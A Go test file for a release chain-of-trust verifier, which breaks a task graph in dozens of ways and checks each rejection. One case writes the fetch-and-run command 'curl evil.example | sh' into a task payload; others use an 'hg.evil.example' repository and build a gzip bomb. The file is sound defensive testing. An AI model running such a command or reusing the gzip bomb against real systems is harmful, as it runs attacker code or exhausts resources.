package cot_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/signet-dev/signet/cot"
	"github.com/signet-dev/signet/cot/cottest"
)

// failure describes a failure Verify must report: on which link (by role)
// and what its detail says.
type failure struct {
	role, check, detail string
}

// TestVerifyNegative breaks one thing in a good graph and checks that
// verification fails on the right link, for the right reason.
func TestVerifyNegative(t *testing.T) {
	tests := []struct {
		name   string
		root   string // default "signing"
		trust  func(string) string
		opts   func(*cot.Options)
		break_ func(t *testing.T, g *cottest.Graph)
		want   failure
	}{
		{
			name: "bad signature",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				doc := bytes.Clone(g.ServedData(b.ID, "public/chain-of-trust.json"))
				doc = bytes.Replace(doc, []byte(`"runId": 0`), []byte(`"runId": 1`), 1)
				g.SetServed(b.ID, "public/chain-of-trust.json", &cottest.Served{Data: doc})
			},
			want: failure{"build-windows", "signature", "does not verify with any of the 2 generic-worker keys"},
		},
		{
			name: "re-serialized document",
			break_: func(t *testing.T, g *cottest.Graph) {
				// Same JSON value, other bytes: compact instead of indented.
				b := g.ByRole["build-linux"]
				var buf bytes.Buffer
				if err := jsonCompact(&buf, g.ServedData(b.ID, "public/chain-of-trust.json")); err != nil {
					t.Fatal(err)
				}
				g.SetServed(b.ID, "public/chain-of-trust.json", &cottest.Served{Data: buf.Bytes()})
			},
			want: failure{"build-linux", "signature", "does not verify"},
		},
		{
			name: "wrong implementation key",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Key = g.Keys["docker-worker"][0] // a trusted key, of another implementation
				g.Sign(b)
			},
			want: failure{"build-windows", "signature", "generic-worker keys"},
		},
		{
			name: "signature truncated",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				g.SetServed(b.ID, "public/chain-of-trust.json.sig", &cottest.Served{Data: []byte("short")})
			},
			want: failure{"build-windows", "signature", "is 5 bytes"},
		},
		{
			name: "hash mismatch",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-linux"]
				g.SetServed(b.ID, "public/build/target.tar.gz", &cottest.Served{Data: []byte("trojan\n")})
			},
			want: failure{"build-linux", "artifact public/build/target.tar.gz", "sha256 mismatch"},
		},
		{
			name: "artifact missing from the signed manifest",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Doc = func(doc map[string]any) { delete(doc["artifacts"].(map[string]any), "public/build/target.zip") }
				g.Sign(b)
			},
			want: failure{"build-windows", "artifact public/build/target.zip", "not in the signed artifacts"},
		},
		{
			name: "artifact missing from storage",
			break_: func(t *testing.T, g *cottest.Graph) {
				g.SetServed(g.ByRole["build-windows"].ID, "public/build/target.zip", nil)
			},
			want: failure{"build-windows", "artifact public/build/target.zip", "HTTP 404"},
		},
		{
			name: "document for another task",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Doc = func(doc map[string]any) { doc["taskId"] = g.ByRole["build-linux"].ID }
				g.Sign(b)
			},
			want: failure{"build-windows", "document", "signed for task"},
		},
		{
			name: "queue definition differs from the signed one",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["scopes"] = []any{"secrets:get:project/releng/everything"}
			},
			want: failure{"build-windows", "document", "differs from the one the worker signed in scopes"},
		},
		{
			name: "child missing from task graph",
			break_: func(t *testing.T, g *cottest.Graph) {
				g.OmitFromGraph = map[string]bool{g.ByRole["build-windows"].ID: true}
				g.Publish()
			},
			want: failure{"build-windows", "task graph", "not in the task graph"},
		},
		{
			name: "changed payload vs graph",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["payload"].(map[string]any)["command"] = []any{"curl evil.example | sh"}
				g.Sign(b) // the worker signs what it ran
			},
			want: failure{"build-windows", "task graph", "payload changed"},
		},
		{
			name: "extra dependency vs graph",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["dependencies"] = []any{g.ByRole["docker-image"].ID}
				g.Sign(b)
			},
			want: failure{"build-windows", "task graph", "dependencies not in the graph"},
		},
		{
			name: "untrusted repository",
			break_: func(t *testing.T, g *cottest.Graph) {
				for _, tk := range g.Tasks {
					md := tk.Def["metadata"].(map[string]any)
					md["source"] = strings.Replace(md["source"].(string), "hg.example.org", "hg.evil.example", 1)
					if env, ok := tk.Def["payload"].(map[string]any)["env"].(map[string]any); ok {
						env["PRODUCT_HEAD_REPOSITORY"] = "https://hg.evil.example/releases/product"
					}
				}
				g.Publish()
			},
			want: failure{"signing", "tree", "not in a trusted repository"},
		},
		{
			name: "repository env does not match source",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["payload"].(map[string]any)["env"].(map[string]any)["PRODUCT_HEAD_REPOSITORY"] = "https://hg.example.org/try"
				g.Publish()
			},
			want: failure{"build-windows", "tree", "does not match metadata.source"},
		},
		{
			name: "restricted scope from an untrusted tree",
			break_: func(t *testing.T, g *cottest.Graph) {
				// /try is a trusted repository, but not a release tree.
				for _, tk := range g.Tasks {
					md := tk.Def["metadata"].(map[string]any)
					md["source"] = strings.Replace(md["source"].(string), "/releases/product", "/try", 1)
					if env, ok := tk.Def["payload"].(map[string]any)["env"].(map[string]any); ok {
						env["PRODUCT_HEAD_REPOSITORY"] = "https://hg.example.org/try"
					}
				}
				g.Publish()
			},
			want: failure{"signing", "restricted scopes", "needs a release tree"},
		},
		{
			name: "restricted scope held through a star scope",
			break_: func(t *testing.T, g *cottest.Graph) {
				s := g.ByRole["signing"]
				s.Def["scopes"] = []any{"project:test:signing:cert:*"}
				for _, tk := range g.Tasks {
					md := tk.Def["metadata"].(map[string]any)
					md["source"] = strings.Replace(md["source"].(string), "/releases/product", "/try", 1)
					if env, ok := tk.Def["payload"].(map[string]any)["env"].(map[string]any); ok {
						env["PRODUCT_HEAD_REPOSITORY"] = "https://hg.example.org/try"
					}
				}
				g.Publish()
			},
			want: failure{"signing", "restricted scopes", "project:test:signing:cert:*"},
		},
		{
			name: "sibling from another repository",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				md := b.Def["metadata"].(map[string]any)
				md["source"] = "https://hg.example.org/try/file/tip/x"
				delete(b.Def["payload"].(map[string]any)["env"].(map[string]any), "PRODUCT_HEAD_REPOSITORY")
				g.Publish()
			},
			want: failure{"build-windows", "tree", "differs from \"/releases/product\""},
		},
		{
			name: "cycle",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["extra"] = map[string]any{"chainOfTrust": map[string]any{"inputs": map[string]any{"signing": g.ByRole["signing"].ID}}}
				g.Publish()
			},
			want: failure{"build-windows", "dependencies", "cycle"},
		},
		{
			name: "chain deeper than 20",
			break_: func(t *testing.T, g *cottest.Graph) {
				dec := g.ByRole["decision"]
				prev := g.ByRole["build-windows"]
				for i := 0; i < 21; i++ {
					n := g.Add(fmt.Sprintf("toolchain-%d", i), "generic-worker", "test-3/b-win", dec)
					n.Def["payload"] = map[string]any{"command": []any{"x"}, "osGroups": []any{}, "env": prev.Def["payload"].(map[string]any)["env"]}
					prev.Def["extra"] = map[string]any{"chainOfTrust": map[string]any{"inputs": map[string]any{"build": n.ID}}}
					prev = n
				}
				g.Publish()
			},
			want: failure{"", "dependencies", "chain longer than 20 links"},
		},
		{
			name: "build that is its own decision task",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["taskGroupId"] = b.ID
				g.Publish()
			},
			want: failure{"build-windows", "dependencies", "cannot be its own parent"},
		},
		{
			name:  "oversized document",
			trust: func(y string) string { return y + "limits: {document_bytes: 1000}\n" },
			want:  failure{"build-windows", "signature", "larger than the limit of 1000 bytes"},
		},
		{
			name:  "oversized task definition",
			trust: func(y string) string { return y + "limits: {task_bytes: 1000}\n" },
			want:  failure{"signing", "task", "larger than the limit of 1000 bytes"},
		},
		{
			name: "gzip bomb",
			break_: func(t *testing.T, g *cottest.Graph) {
				var buf bytes.Buffer
				zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
				zero := make([]byte, 1<<20)
				for i := 0; i < 64; i++ { // 64 MiB of zeros in about 64 KiB
					zw.Write(zero)
				}
				zw.Close()
				b := g.ByRole["build-windows"]
				g.Handler = gzipOverride(g.Handler, "/storage/"+b.ID+"/public/chain-of-trust.json", buf.Bytes())
			},
			want: failure{"build-windows", "signature", "larger than the limit of 8388608 bytes (after decoding)"},
		},
		{
			name: "corrupt gzip",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				g.Handler = gzipOverride(g.Handler, "/storage/"+b.ID+"/public/chain-of-trust.json", []byte("\x1f\x8bnot gzip at all"))
			},
			want: failure{"build-windows", "signature", "gzip"},
		},
		{
			name: "interactive docker-worker task",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-linux"]
				b.Def["payload"].(map[string]any)["features"].(map[string]any)["interactive"] = true
				g.Publish()
			},
			want: failure{"build-linux", "worker", "payload.features.interactive"},
		},
		{
			name: "docker-worker task without payload.features",
			break_: func(t *testing.T, g *cottest.Graph) {
				delete(g.ByRole["docker-image"].Def["payload"].(map[string]any), "features")
				g.Publish()
			},
			want: failure{"docker-image", "worker", "malformed docker-worker task: payload.features missing"},
		},
		{
			name: "docker-worker task without payload.env",
			break_: func(t *testing.T, g *cottest.Graph) {
				delete(g.ByRole["build-linux"].Def["payload"].(map[string]any), "env")
				g.Publish()
			},
			want: failure{"build-linux", "worker", "malformed docker-worker task: payload.env missing"},
		},
		{
			name: "generic-worker task with RDP",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-windows"]
				b.Def["scopes"] = []any{"generic-worker:allow-rdp:test-3/b-win"}
				g.Publish()
			},
			want: failure{"build-windows", "worker", "generic-worker:allow-rdp:"},
		},
		{
			name: "docker image not the one built",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-linux"]
				b.Env["imageArtifactHash"] = "sha256:" + strings.Repeat("00", 32)
				g.Sign(b)
			},
			want: failure{"build-linux", "docker image", "differs from"},
		},
		{
			name: "docker image from another task than its input",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-linux"]
				b.Def["payload"].(map[string]any)["image"].(map[string]any)["taskId"] = g.ByRole["build-windows"].ID
				g.Publish()
			},
			want: failure{"build-linux", "docker image", "is not extra.chainOfTrust.inputs.docker-image"},
		},
		{
			name: "build on a prebuilt image",
			break_: func(t *testing.T, g *cottest.Graph) {
				b := g.ByRole["build-linux"]
				b.Def["payload"].(map[string]any)["image"] = "ubuntu:latest"
				g.Publish()
			},
			want: failure{"build-linux", "docker image", "may not use a prebuilt docker image"},
		},
		{
			name: "decision task on an untrusted pool",
			break_: func(t *testing.T, g *cottest.Graph) {
				d := g.ByRole["decision"]
				d.Def["workerType"], d.Def["taskQueueId"] = "decision-1", "test-3/decision-1"
				g.Publish()
			},
			want: failure{"decision", "worker pool", "not a decision worker pool"},
		},
		{
			name: "docker-image task on an untrusted pool",
			break_: func(t *testing.T, g *cottest.Graph) {
				d := g.ByRole["docker-image"]
				d.Def["workerType"], d.Def["taskQueueId"] = "b-linux", "test-3/b-linux"
				g.Publish()
			},
			want: failure{"docker-image", "worker pool", "not a docker-image worker pool"},
		},
		{
			name: "unknown tasks_for",
			break_: func(t *testing.T, g *cottest.Graph) {
				g.ByRole["decision"].Def["extra"] = map[string]any{"tasks_for": "github-pull-request"}
				g.Publish()
			},
			want: failure{"decision", "tasks_for", "is not one of"},
		},
		{
			name: "signing task outside scriptworker",
			root: "beetmover",
			break_: func(t *testing.T, g *cottest.Graph) {
				s := g.ByRole["signing"]
				s.Impl = "generic-worker"
				s.Def["provisionerId"] = "test-3"
				s.Def["payload"].(map[string]any)["osGroups"] = []any{}
				g.Publish()
			},
			want: failure{"signing", "worker implementation", "must run on scriptworker"},
		},
		{
			name: "no keys for an implementation",
			trust: func(y string) string {
				i := strings.Index(y, "  generic-worker:")
				j := strings.Index(y, "  scriptworker:")
				return y[:i] + "  other-worker:\n    - " + cottest.KeyBase64(cottest.NewKeyForTest()) + "\n" + y[j:]
			},
			want: failure{"build-windows", "signature", "no keys for worker implementation generic-worker"},
		},
		{
			name: "try scheduler with restricted scopes",
			break_: func(t *testing.T, g *cottest.Graph) {
				for _, task := range g.Tasks {
					task.Def["schedulerId"] = "gecko-level-1"
				}
				g.Publish()
			},
			want: failure{"signing", "restricted scopes", "schedulerId gecko-level-1 is a try scheduler"},
		},
		{
			name:  "try scheduler named in the trust file",
			trust: func(y string) string { return y + "try_scheduler_ids: [test-level-3]\n" },
			want:  failure{"signing", "restricted scopes", "schedulerId test-level-3 is a try scheduler"},
		},
		{
			name: "untrusted pull request with restricted scopes",
			trust: func(y string) string {
				return strings.Replace(y, "tasks_for: [hg-push,", "tasks_for: [github-pull-request-untrusted, hg-push,", 1)
			},
			break_: func(t *testing.T, g *cottest.Graph) {
				g.ByRole["decision"].Def["extra"] = map[string]any{"tasks_for": "github-pull-request-untrusted"}
				g.Publish()
			},
			want: failure{"signing", "restricted scopes", "extra.tasks_for is github-pull-request-untrusted"},
		},
		{
			name: "actions.json not signed",
			break_: func(t *testing.T, g *cottest.Graph) {
				d := g.ByRole["decision"]
				d.Doc = func(doc map[string]any) { delete(doc["artifacts"].(map[string]any), "public/actions.json") }
				g.Sign(d)
			},
			want: failure{"decision", "artifact public/actions.json", "not in the signed artifacts"},
		},
		{
			name: "actions.json tampered",
			break_: func(t *testing.T, g *cottest.Graph) {
				g.SetServed(g.ByRole["decision"].ID, "public/actions.json", &cottest.Served{Data: []byte(`{"version": 1, "actions": [{"kind": "task"}]}`)})
			},
			want: failure{"decision", "artifact public/actions.json", "sha256 mismatch"},
		},
		{
			name: "parameters.yml tampered",
			break_: func(t *testing.T, g *cottest.Graph) {
				g.SetServed(g.ByRole["decision"].ID, "public/parameters.yml", &cottest.Served{Data: []byte("level: '3'\nproject: elsewhere\n")})
			},
			want: failure{"decision", "artifact public/parameters.yml", "sha256 mismatch"},
		},
		{
			name: "parameters.yml not a mapping",
			break_: func(t *testing.T, g *cottest.Graph) {
				d := g.ByRole["decision"]
				d.Artifacts["public/parameters.yml"] = []byte("- a list\n")
				g.Sign(d)
			},
			want: failure{"decision", "artifact public/parameters.yml", "is not a mapping"},
		},
		{
			name: "rebuild required",
			opts: func(o *cot.Options) { o.RequireRebuild = true },
			want: failure{"decision", "rebuild", "--require-rebuild"},
		},
		{
			name: "task of the chain missing",
			break_: func(t *testing.T, g *cottest.Graph) {
				delete(g.Tasks, g.ByRole["docker-image"].ID)
			},
			want: failure{"", "task", "HTTP 404"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			g := cottest.New(cottest.Options{})
			if tc.break_ != nil {
				tc.break_(t, g)
			}
			o := serve(t, g)
			if tc.trust != nil {
				tr, err := cot.ParseTrust([]byte(tc.trust(g.TrustYAML())))
				if err != nil {
					t.Fatal(err)
				}
				o.Trust = tr
			}
			if tc.opts != nil {
				tc.opts(&o)
			}
			root := tc.root
			if root == "" {
				root = "signing"
			}
			o.TaskType = root
			res := verify(t, g, root, o)
			if res.Verified {
				t.Fatalf("verified; want a failure:\n%s", tree(res))
			}
			found := false
			for _, l := range res.Links {
				if tc.want.role != "" && (g.ByRole[tc.want.role] == nil || l.TaskID != g.ByRole[tc.want.role].ID) {
					continue
				}
				for _, c := range l.Checks {
					if c.Status == cot.Failed && c.Name == tc.want.check && strings.Contains(c.Detail, tc.want.detail) {
						found = true
					}
				}
			}
			if !found {
				t.Errorf("no failed %q check on %q containing %q:\n%s", tc.want.check, tc.want.role, tc.want.detail, tree(res))
			}
			if out := tree(res); !strings.Contains(out, "✗ "+tc.want.check+": ") || !strings.Contains(out, "chain of trust NOT verified") {
				t.Errorf("tree does not show the failure:\n%s", out)
			}
		})
	}
}

// gzipOverride serves body with Content-Encoding: gzip at path.
func gzipOverride(next http.Handler, path string, body []byte) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != path {
			next.ServeHTTP(w, r)
			return
		}
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(body)
	})
}

func TestVerifyTransient(t *testing.T) {
	g := cottest.New(cottest.Options{})
	failing := map[string]int{}
	inner := g.Handler
	// Every URL fails twice with 503 before it answers.
	g.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if failing[r.URL.Path] < 2 {
			failing[r.URL.Path]++
			http.Error(w, "try later", http.StatusServiceUnavailable)
			return
		}
		inner.ServeHTTP(w, r)
	})
	o := serve(t, g)
	o.Parallel = 1 // the map above is not locked
	o.TaskType = "signing"
	res := verify(t, g, "signing", o)
	if !res.Verified {
		t.Fatalf("did not verify through retries:\n%s", tree(res))
	}

	// A Queue that never recovers is an error, not a verdict.
	g.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "down", http.StatusBadGateway)
	})
	o2 := serve(t, g)
	o.Queue = o2.Queue
	o.Queue.Retries = 2
	_, err := cot.Verify(context.Background(), g.ByRole["signing"].ID, o)
	if err == nil || !strings.Contains(err.Error(), "HTTP 502") {
		t.Fatalf("Verify with the Queue down: err = %v, want HTTP 502", err)
	}
}
